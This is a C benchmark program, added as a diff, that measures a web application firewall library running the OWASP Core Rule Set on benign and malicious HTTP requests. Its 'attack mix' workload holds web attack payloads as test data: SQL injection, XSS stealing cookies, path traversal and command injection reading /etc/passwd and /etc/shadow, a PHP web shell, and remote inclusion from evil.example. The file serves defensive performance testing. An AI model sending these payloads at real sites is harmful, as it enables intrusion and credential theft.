@@ -1,0 +1,372 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * waf_bench: lib/waf with the OWASP CRS 3.3.4 of Debian's modsecurity-crs
+ * on one core.
+ *
+ *   waf_bench [--paranoia N] [--seconds S] [--setup F] [--rules-dir D]
+ *
+ * Prints, per workload, requests per CPU-second of this thread (the
+ * machine may be shared: wall time would count other processes), the same
+ * as microseconds and TSC cycles per request (one thread, mg_waf_eval on
+ * requests held in memory, block mode as a gateway runs it), the body
+ * bytes inspected per second, the load time of
+ * the rule set cold (Hyperscan compile) and from the cache, and the
+ * memory of one per-lcore context (allocated, and resident after the
+ * run).
+ */
+#include <dirent.h>
+#include <getopt.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <time.h>
+#include <unistd.h>
+#include <x86intrin.h>
+
+#include "mg_waf.h"
+
+#define MAX_REQ (1u << 20)
+
+struct workload {
+	const char *name;
+	uint8_t *req[16];
+	size_t len[16], body[16];
+	unsigned n;
+};
+
+static double
+now_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static const char browser_headers[] =
+	"Host: shop.example.com\r\n"
+	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
+	"Gecko/20100101 Firefox/115.0\r\n"
+	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,"
+	"image/avif,image/webp,*/*;q=0.8\r\n"
+	"Accept-Language: en-US,en;q=0.5\r\n"
+	"Accept-Encoding: gzip, deflate, br\r\n"
+	"Referer: https://shop.example.com/catalog?category=books\r\n"
+	"Cookie: session=8f14e45fceea167a5a36dedd4bea2543; lang=en-US; "
+	"cart=3\r\n"
+	"Connection: keep-alive\r\n";
+
+static void
+add(struct workload *w, const char *head_fmt, const char *ctype,
+    const char *body, size_t blen)
+{
+	uint8_t *r = malloc(MAX_REQ + 4096);
+	int n;
+
+	if (r == NULL)
+		exit(1);
+	if (ctype)
+		n = snprintf((char *)r, 4096, "%s%sContent-Type: %s\r\n"
+			     "Content-Length: %zu\r\n\r\n", head_fmt,
+			     browser_headers, ctype, blen);
+	else
+		n = snprintf((char *)r, 4096, "%s%s\r\n", head_fmt,
+			     browser_headers);
+	memcpy(r + n, body, blen);
+	w->req[w->n] = r;
+	w->len[w->n] = (size_t)n + blen;
+	w->body[w->n] = blen;
+	w->n++;
+}
+
+static void
+make_get(struct workload *w)
+{
+	w->name = "benign GET, 5 query args";
+	add(w, "GET /api/v1/products?category=books&sort=price&page=3&"
+	    "q=science+fiction&lang=en HTTP/1.1\r\n", NULL, "", 0);
+}
+
+static void
+make_form(struct workload *w)
+{
+	static const char *const words[] = {
+		"delivery", "address", "please", "leave", "the", "parcel",
+		"at", "front", "door", "thanks", "Maria", "Lopez", "Street",
+		"42", "Springfield", "order", "gift", "wrap", "blue",
+	};
+	char *b = malloc(8192);
+	size_t n = 0;
+	unsigned i = 0;
+
+	w->name = "benign form POST, 4 KiB";
+	while (n < 4000) {
+		n += (size_t)snprintf(b + n, 8192 - n, "%sfield_%u=", n ? "&" : "",
+				      i);
+		for (unsigned k = 0; k < 8 && n < 4090; k++)
+			n += (size_t)snprintf(b + n, 8192 - n, "%s%s",
+					      k ? "+" : "",
+					      words[(i * 7 + k) % 19]);
+		i++;
+	}
+	add(w, "POST /checkout/confirm HTTP/1.1\r\n",
+	    "application/x-www-form-urlencoded", b, n);
+	free(b);
+}
+
+static void
+make_json(struct workload *w)
+{
+	char *b = malloc(70000);
+	size_t n = 0;
+	unsigned i = 0;
+
+	w->name = "benign JSON POST, 64 KiB";
+	n += (size_t)snprintf(b, 70000, "{\"orders\":[");
+	while (n < 65000) {
+		n += (size_t)snprintf(b + n, 70000 - n,
+			"%s{\"id\":%u,\"customer\":{\"name\":\"Jane Doe\","
+			"\"email\":\"jane.doe%u@example.org\"},\"items\":["
+			"{\"sku\":\"BK-%05u\",\"title\":\"The Left Hand of "
+			"Darkness\",\"qty\":1,\"price\":9.99}],\"note\":"
+			"\"Leave at the reception, thank you\",\"paid\":true}",
+			i ? "," : "", i, i, i * 13);
+		i++;
+	}
+	n += (size_t)snprintf(b + n, 70000 - n, "]}");
+	add(w, "POST /api/v1/orders/import HTTP/1.1\r\n", "application/json",
+	    b, n);
+	free(b);
+}
+
+static void
+make_attacks(struct workload *w)
+{
+	static const char *const forms[] = {
+		"user=admin&pass=1%27+or+%271%27%3D%271",
+		"comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+		"file=..%2F..%2F..%2Fetc%2Fpasswd",
+		"cmd=%3Bcat+%2Fetc%2Fshadow",
+		"q=1+union+select+username,password+from+users--",
+		"x=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E",
+		"url=http://evil.example/shell.txt?",
+		"name=%7B%7B7*7%7D%7D&msg=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
+	};
+
+	w->name = "attack mix (8 requests)";
+	add(w, "GET /item.php?id=1+AND+1=1--&cat=%3Csvg/onload=alert(1)%3E "
+	    "HTTP/1.1\r\n", NULL, "", 0);
+	for (unsigned i = 0; i < 7; i++)
+		add(w, "POST /form HTTP/1.1\r\n",
+		    "application/x-www-form-urlencoded", forms[i],
+		    strlen(forms[i]));
+}
+
+static void
+make_text(struct workload *w)
+{
+	size_t n = 256u << 10;
+	char *b = malloc(n);
+
+	w->name = "text/plain POST, 256 KiB (REQUEST_BODY only)";
+	for (size_t i = 0; i < n; i++)
+		b[i] = "The quick brown fox jumps over the lazy dog. "[i % 45];
+	add(w, "POST /upload/notes HTTP/1.1\r\n", "text/plain", b, n);
+	free(b);
+}
+
+/* CPU time of this thread: the machine is shared, wall time is not ours */
+static double
+cpu_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static void
+run(struct mg_waf_ctx *ctx, const struct workload *w, double seconds,
+    double tsc_hz)
+{
+	struct mg_waf_result res;
+	unsigned long long n = 0, bytes = 0, matched = 0;
+	double t0, t1;
+
+	/* warm up: the first requests fault in the buffers */
+	for (unsigned i = 0; i < 50; i++)
+		mg_waf_eval(ctx, w->req[i % w->n], w->len[i % w->n], NULL,
+			    &res);
+	t0 = cpu_s();
+	do {
+		for (unsigned k = 0; k < 16; k++) {
+			unsigned i = (unsigned)(n % w->n);
+
+			mg_waf_eval(ctx, w->req[i], w->len[i], NULL, &res);
+			matched += res.n_matches > 0;
+			bytes += w->body[i];
+			n++;
+		}
+		t1 = cpu_s();
+	} while (t1 - t0 < seconds);
+	printf("%-46s %9.0f req/s %9.1f us/req %9.0f cyc/req %7.3f Gbit/s"
+	       "  (%llu/%llu matched)\n", w->name, (double)n / (t1 - t0),
+	       (t1 - t0) / (double)n * 1e6, (t1 - t0) * tsc_hz / (double)n,
+	       (double)bytes * 8 / (t1 - t0) / 1e9, matched, n);
+}
+
+/* TSC ticks per second, over a tenth of a second */
+static double
+tsc_hz(void)
+{
+	double t0 = now_s(), t1;
+	uint64_t c0 = __rdtsc(), c1;
+
+	do {
+		t1 = now_s();
+	} while (t1 - t0 < 0.1);
+	c1 = __rdtsc();
+	return (double)(c1 - c0) / (t1 - t0);
+}
+
+static void
+remove_cache(const char *dir)
+{
+	DIR *d = opendir(dir);
+	struct dirent *e;
+	char path[4096];
+
+	if (d == NULL)
+		return;
+	while ((e = readdir(d)) != NULL) {
+		if (e->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		unlink(path);
+	}
+	closedir(d);
+	rmdir(dir);
+}
+
+static long
+rss_kib(void)
+{
+	FILE *f = fopen("/proc/self/statm", "r");
+	long pages = 0, rss = 0;
+
+	if (f == NULL)
+		return 0;
+	if (fscanf(f, "%ld %ld", &pages, &rss) != 2)
+		rss = 0;
+	fclose(f);
+	return rss * (sysconf(_SC_PAGESIZE) / 1024);
+}
+
+int
+main(int argc, char **argv)
+{
+	static const struct option lopts[] = {
+		{ "paranoia", required_argument, NULL, 'p' },
+		{ "seconds", required_argument, NULL, 's' },
+		{ "setup", required_argument, NULL, 'S' },
+		{ "rules-dir", required_argument, NULL, 'r' },
+		{ "only", required_argument, NULL, 'o' },
+		{ "cache-dir", required_argument, NULL, 'c' },
+		{ NULL, 0, NULL, 0 },
+	};
+	struct mg_waf_conf conf = {
+		.setup = "/etc/modsecurity/crs/crs-setup.conf",
+		.rules_dir = "/usr/share/modsecurity-crs/rules",
+		.paranoia = 1,
+		.mode = MG_WAF_MODE_BLOCK,
+	};
+	struct workload w[5] = { 0 };
+	char cache[] = "/tmp/waf_bench_cache.XXXXXX";
+	char err[MG_WAF_ERRLEN];
+	struct mg_waf_ruleset *rs;
+	struct mg_waf_ctx *ctx;
+	double seconds = 3, t0, cold, warm, hz;
+	long rss0;
+	int c, only = -1;
+
+	while ((c = getopt_long(argc, argv, "", lopts, NULL)) != -1) {
+		switch (c) {
+		case 'p':
+			conf.paranoia = (uint8_t)atoi(optarg);
+			break;
+		case 's':
+			seconds = atof(optarg);
+			break;
+		case 'S':
+			conf.setup = optarg;
+			break;
+		case 'r':
+			conf.rules_dir = optarg;
+			break;
+		case 'o':
+			only = atoi(optarg);
+			break;
+		case 'c':
+			conf.cache_dir = optarg;
+			break;
+		default:
+			fprintf(stderr, "usage: waf_bench [--paranoia N] "
+				"[--seconds S] [--setup F] [--rules-dir D] "
+				"[--only WORKLOAD] [--cache-dir D]\n");
+			return 2;
+		}
+	}
+	/* a fresh cache directory, so that the first load is cold */
+	if (conf.cache_dir == NULL) {
+		if (mkdtemp(cache) == NULL)
+			return 1;
+		conf.cache_dir = cache;
+	}
+	t0 = now_s();
+	rs = mg_waf_load(&conf, err, sizeof(err));
+	cold = now_s() - t0;
+	if (rs == NULL) {
+		fprintf(stderr, "waf_bench: %s\n", err);
+		return 1;
+	}
+	mg_waf_ruleset_free(rs);
+	t0 = now_s();
+	rs = mg_waf_load(&conf, err, sizeof(err));
+	warm = now_s() - t0;
+	if (rs == NULL || !mg_waf_ruleset_stats(rs)->from_cache) {
+		fprintf(stderr, "waf_bench: the cached load did not use the "
+			"cache\n");
+		return 1;
+	}
+	printf("CRS 3.3.4, paranoia level %u, block mode; %u Hyperscan "
+	       "databases, %u patterns\n", conf.paranoia,
+	       mg_waf_ruleset_stats(rs)->groups,
+	       mg_waf_ruleset_stats(rs)->patterns);
+	printf("load: cold %.0f ms (Hyperscan compile), cached %.0f ms\n",
+	       cold * 1e3, warm * 1e3);
+	rss0 = rss_kib();
+	ctx = mg_waf_ctx_create(rs, &conf);
+	if (ctx == NULL)
+		return 1;
+	make_get(&w[0]);
+	make_form(&w[1]);
+	make_json(&w[2]);
+	make_attacks(&w[3]);
+	make_text(&w[4]);
+	hz = tsc_hz();
+	for (int i = 0; i < 5; i++)
+		if (only < 0 || only == i)
+			run(ctx, &w[i], seconds, hz);
+	printf("context: %zu KiB allocated, %ld KiB resident after the run\n",
+	       mg_waf_ctx_memory(ctx) / 1024, rss_kib() - rss0);
+	for (unsigned i = 0; i < MG_WAF_C_MAX; i++)
+		if (mg_waf_counter(ctx, i) && i > MG_WAF_C_BLOCKED)
+			printf("counter %s %llu\n", mg_waf_counter_name(i),
+			       (unsigned long long)mg_waf_counter(ctx, i));
+	mg_waf_ctx_free(ctx);
+	mg_waf_ruleset_free(rs);
+	if (conf.cache_dir == cache)
+		remove_cache(cache);
+	return 0;
+}
